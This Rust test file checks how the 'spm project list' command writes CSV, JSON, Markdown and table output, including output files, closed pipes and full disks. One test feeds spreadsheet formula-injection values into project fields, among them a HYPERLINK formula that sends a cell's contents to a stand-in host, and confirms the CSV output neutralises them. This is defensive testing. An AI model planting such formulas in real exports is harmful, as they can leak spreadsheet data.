//! How `spm project list` writes: every format, `--output`, cells a spreadsheet would run, a
//! streamed table, and stdout closed or full.

use std::collections::HashMap;
use std::io::{BufRead, BufReader};
use std::process::Stdio;

use serde_json::Value as Json;

use super::{DEMO_CODES, KEYS, add, csv_records};
use crate::common::{Env, FORM, LEVEL, json, read_csv};

#[test]
fn list_csv_has_every_column_by_key() {
    let env = Env::demo();
    let text = env.ok(&["--format", "csv", "project", "list", "--status", "paused"]);
    let (header, rows) = read_csv(&text);
    assert_eq!(header, KEYS);
    assert_eq!(rows.len(), 1);
    let rec = &csv_records(&text)[0];
    assert_eq!(rec["code"], "reps-forum-2025");
    assert_eq!(rec["title"], "Academic representatives' forum");
    assert_eq!(rec["status"], "paused");
    assert_eq!(rec["academic_year"], "2025/26");
    assert_eq!(rec["start_date"], "2025-10-20");
    assert_eq!(rec["end_date"], "");
    assert_eq!(rec["budget"], "");
    assert_eq!(rec["review_cadence"], "12m");
}

#[test]
fn list_csv_writes_plain_money_and_joined_themes() {
    let env = Env::demo();
    let text = env.ok(&["--format", "csv", "project", "list", "--search", "mh-peer"]);
    let rec = &csv_records(&text)[0];
    assert_eq!(rec["budget"], "2500.00");
    assert_eq!(rec["themes"], "mental health; wellbeing");
}

#[test]
fn list_json_keeps_numbers_as_numbers_and_themes_as_arrays() {
    let env = Env::demo();
    let list = json(&env.ok(&["--format", "json", "project", "list"]));
    let list = list.as_array().expect("an array");
    assert_eq!(list.len(), 15);
    let mh = list
        .iter()
        .find(|p| p["code"] == "mh-peer-2025")
        .expect("mh-peer-2025");
    assert!(mh["budget"].is_number(), "{mh}");
    assert_eq!(mh["budget"], 2500.0);
    assert_eq!(
        mh["themes"],
        serde_json::json!(["mental health", "wellbeing"])
    );
    assert!(mh["end_date"].is_null());
    let keys: Vec<&str> = mh
        .as_object()
        .expect("an object")
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(keys, KEYS);
    let reps = list
        .iter()
        .find(|p| p["code"] == "reps-forum-2025")
        .expect("reps-forum-2025");
    assert!(reps["budget"].is_null());
}

/// Every-column outputs name the project each continues; the table a person reads does not.
#[test]
fn list_says_which_project_each_continues_in_csv_json_and_wide() {
    let env = Env::demo();
    let text = env.ok(&["--format", "csv", "project", "list"]);
    let continues: Vec<(String, String)> = csv_records(&text)
        .into_iter()
        .filter(|r| !r["continues"].is_empty())
        .map(|r| (r["code"].clone(), r["continues"].clone()))
        .collect();
    assert_eq!(
        continues,
        [("mh-peer-2025".to_string(), "mental-health-2021".to_string())]
    );
    let list = json(&env.ok(&["--format", "json", "project", "list"]));
    let list = list.as_array().expect("an array");
    for p in list {
        let want = if p["code"] == "mh-peer-2025" {
            Json::from("mental-health-2021")
        } else {
            Json::Null
        };
        assert_eq!(p["continues"], want, "{p}");
    }
    let wide = env.ok(&["project", "list", "--wide", "--search", "mh-peer"]);
    assert!(
        wide.contains("Continues") && wide.contains("mental-health-2021"),
        "{wide}"
    );
    let narrow = env.ok(&["project", "list", "--search", "mh-peer"]);
    assert!(!narrow.contains("Continues"), "{narrow}");
}

#[test]
fn list_markdown_is_a_table_with_the_narrow_columns() {
    let env = Env::demo();
    let text = env.ok(&["--format", "md", "project", "list", "--status", "paused"]);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0],
        "| Code | Title | Status | Form | Planned level | Department | Year | Staff lead | Themes | Budget |"
    );
    assert_eq!(lines[1], "|---|---|---|---|---|---|---|---|---|---|");
    assert!(lines[2].starts_with("| reps-forum-2025 | Academic representatives' forum | paused |"));
    assert_eq!(lines.len(), 3, "{text}");
}

#[test]
fn list_table_is_for_a_person() {
    let env = Env::demo();
    let text = env.ok(&["--format", "table", "project", "list"]);
    for header in ["Code", "Title", "Status", "Staff lead", "Budget"] {
        assert!(text.contains(header), "no {header} in {text}");
    }
    // The table leaves out the long columns that scripts get.
    assert!(!text.contains("Summary"), "{text}");
    for code in DEMO_CODES {
        assert!(text.contains(code), "no {code} in {text}");
    }
    assert!(text.contains("£2,500.00"), "{text}");
    // The default format is the table.
    assert_eq!(text, env.ok(&["project", "list"]));
}

#[test]
fn list_format_may_follow_the_subcommand() {
    let env = Env::demo();
    assert_eq!(
        env.ok(&["project", "list", "--format", "csv"]),
        env.ok(&["--format", "csv", "project", "list"])
    );
}

#[test]
fn list_output_file_gets_the_output_and_stdout_nothing() {
    let env = Env::demo();
    let file = env.path("projects.csv");
    let file_arg = file.to_str().expect("a UTF-8 path");
    let stdout = env.ok(&["--format", "csv", "project", "list", "-o", file_arg]);
    assert_eq!(stdout, "");
    let written = std::fs::read_to_string(&file).expect("the output file");
    let (header, rows) = read_csv(&written);
    assert_eq!(header, KEYS);
    assert_eq!(rows.len(), 15);
    // --output replaces the file whole.
    env.ok(&[
        "--format", "csv", "project", "list", "--status", "paused", "--output", file_arg,
    ]);
    let (_, rows) = read_csv(&std::fs::read_to_string(&file).expect("the output file"));
    assert_eq!(rows.len(), 1);
}

#[test]
fn list_output_into_a_missing_folder_exits_73() {
    let env = Env::demo();
    let file = env.path("no-such-folder").join("projects.csv");
    env.refused(
        &[
            "--format",
            "csv",
            "project",
            "list",
            "--output",
            file.to_str().expect("UTF-8"),
        ],
        73,
        "no-such-folder does not exist",
    );
    assert!(!file.exists());
}

#[test]
fn list_output_to_a_folder_exits_73() {
    let env = Env::demo();
    let dir = env.path("");
    env.refused(
        &["project", "list", "--output", dir.to_str().expect("UTF-8")],
        73,
        "it is a folder; give a file name",
    );
}

#[test]
fn csv_guards_cells_a_spreadsheet_would_run_and_json_keeps_them() {
    let env = Env::new();
    let values = [
        "=1+2",
        "+44 20 7946 0000",
        "-5",
        "@SUM(A1)",
        "=HYPERLINK(\"http://x/?\"&A1)",
    ];
    for (i, value) in values.iter().enumerate() {
        let summary = format!("--summary={value}");
        let lead = format!("--lead={value}");
        let dept = format!("--dept={value}");
        let theme = format!("--theme={value}");
        let code = format!("inject-{i}");
        // "--" lets a title such as "-5" through as the title.
        env.ok(&[
            "project", "add", "--code", &code, "--form", FORM, "--level", LEVEL, &summary, &lead,
            &dept, &theme, "--", value,
        ]);
    }
    // A title is one trimmed line, so a leading tab or CR can only be tried in the summary;
    // free text is trimmed, so it is stored from the "=".
    for (code, summary) in [("inject-tab", "\t=1"), ("inject-cr", "\r=1")] {
        env.ok(&[
            "project",
            "add",
            "Leading control",
            "--code",
            code,
            "--form",
            FORM,
            "--level",
            LEVEL,
            "--summary",
            summary,
            "--same-title",
        ]);
    }

    let csv = env.ok(&["--format", "csv", "project", "list"]);
    let records = csv_records(&csv);
    let listed = json(&env.ok(&["--format", "json", "project", "list"]));
    let by_code = |code: &str| -> (&HashMap<String, String>, &Json) {
        let rec = records
            .iter()
            .find(|r| r["code"] == code)
            .unwrap_or_else(|| panic!("{code} in {csv}"));
        let obj = listed
            .as_array()
            .expect("an array")
            .iter()
            .find(|p| p["code"] == code)
            .unwrap_or_else(|| panic!("{code} in {listed}"));
        (rec, obj)
    };
    for (i, value) in values.iter().enumerate() {
        let (rec, obj) = by_code(&format!("inject-{i}"));
        for key in ["title", "summary", "lead", "department", "themes"] {
            assert_eq!(rec[key], format!("'{value}"), "CSV {key} for {value:?}");
        }
        for key in ["title", "summary", "lead", "department"] {
            assert_eq!(obj[key], *value, "JSON {key} for {value:?}");
        }
        assert_eq!(obj["themes"], serde_json::json!([value]));
        // The show record's CSV row is guarded too.
        let shown = env.ok(&["--format", "csv", "project", "show", &format!("inject-{i}")]);
        assert_eq!(csv_records(&shown)[0]["title"], format!("'{value}"));
    }
    for code in ["inject-tab", "inject-cr"] {
        let (rec, obj) = by_code(code);
        assert!(
            rec["summary"].starts_with('\''),
            "{code}: {:?}",
            rec["summary"]
        );
        assert_eq!(rec["summary"], "'=1");
        assert_eq!(obj["summary"], "=1");
    }
}

#[test]
fn list_into_a_pipe_closed_after_one_line_exits_0_quietly() {
    let env = Env::demo();
    // Long titles make every format far bigger than a pipe holds (64 KiB), so spm is still
    // writing when the reader goes away.
    let long = "partnership ".repeat(160);
    for i in 0..60 {
        add(&env, &format!("Long project {i} {long}"), &[]);
    }
    for format in ["table", "csv", "json", "md"] {
        let mut child = env
            .std_cmd(&["--format", format, "project", "list"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spm starts");
        let mut reader = BufReader::new(child.stdout.take().expect("a stdout pipe"));
        let mut first = String::new();
        reader.read_line(&mut first).expect("a first line");
        assert!(!first.is_empty());
        drop(reader);
        let out = child.wait_with_output().expect("spm ends");
        assert!(out.status.success(), "{format}: status {}", out.status);
        assert_eq!(String::from_utf8_lossy(&out.stderr), "", "{format}");
    }
}

#[test]
fn list_into_a_pipe_closed_before_reading_exits_0_quietly() {
    let env = Env::demo();
    let mut child = env
        .std_cmd(&["--format", "json", "project", "list"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spm starts");
    drop(child.stdout.take());
    let out = child.wait_with_output().expect("spm ends");
    assert!(out.status.success(), "status {}", out.status);
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

#[test]
fn list_to_a_full_disk_exits_74() {
    let env = Env::demo();
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .expect("/dev/full");
    let before = env.dump();
    let out = env
        .std_cmd(&["project", "list"])
        .stdout(full)
        .output()
        .expect("spm runs");
    assert_eq!(out.status.code(), Some(74), "status {}", out.status);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.starts_with("error: cannot write the output") && stderr.lines().count() == 1,
        "{stderr}"
    );
    assert_eq!(before, env.dump());
}

/// `project list` streams its rows: a table to a pipe is laid out from every row's width,
/// including letters outside ASCII, and `--output` writes the same bytes as stdout.
#[test]
fn a_streamed_table_lines_up_and_matches_its_output_file() {
    let env = Env::fresh();
    add(&env, "Zoë's café survey", &["--dept", "Études françaises"]);
    add(
        &env,
        "A much longer title than the other one",
        &["--theme", "belonging"],
    );
    let table = env.ok(&["project", "list"]);
    let widths: Vec<usize> = table.lines().map(|l| l.chars().count()).collect();
    assert_eq!(widths.len(), 6, "{table}");
    assert!(widths.iter().all(|w| *w == widths[0]), "{table}");
    assert!(table.contains("┆ Études françaises ┆"), "{table}");
    let file = env.path("list.txt");
    let file_arg = file.to_string_lossy().to_string();
    env.ok(&["--output", &file_arg, "project", "list"]);
    assert_eq!(
        std::fs::read_to_string(&file).ok().as_deref(),
        Some(table.as_str())
    );
    let none = env.ok(&["project", "list", "--status", "withdrawn"]);
    assert_eq!(none.lines().count(), 4, "{none}");
    let csv = env.ok(&[
        "--format",
        "csv",
        "project",
        "list",
        "--status",
        "withdrawn",
    ]);
    assert!(
        csv.starts_with("code,title,summary,status,") && csv.lines().count() == 1,
        "{csv}"
    );
}

#[test]
fn markdown_escapes_what_markdown_would_read() {
    let env = Env::fresh();
    env.ok(&[
        "project",
        "add",
        "*Draft* [v2] of peer_review",
        "--code",
        "md-title",
        "--form",
        "educational-research",
        "--level",
        "partnership",
    ]);
    let text = env.ok(&["--format", "md", "project", "list"]);
    assert!(
        text.contains("| \\*Draft\\* \\[v2\\] of peer\\_review |"),
        "{text}"
    );
    let shown = env.ok(&["--format", "md", "project", "show", "md-title"]);
    assert!(
        shown.contains("\\*Draft\\* \\[v2\\] of peer\\_review"),
        "{shown}"
    );
    // An unknown project is refused in Markdown as in every format, and changes nothing.
    env.refused(
        &["--format", "md", "project", "show", "md-nope"],
        66,
        r#"no project with code "md-nope""#,
    );
}
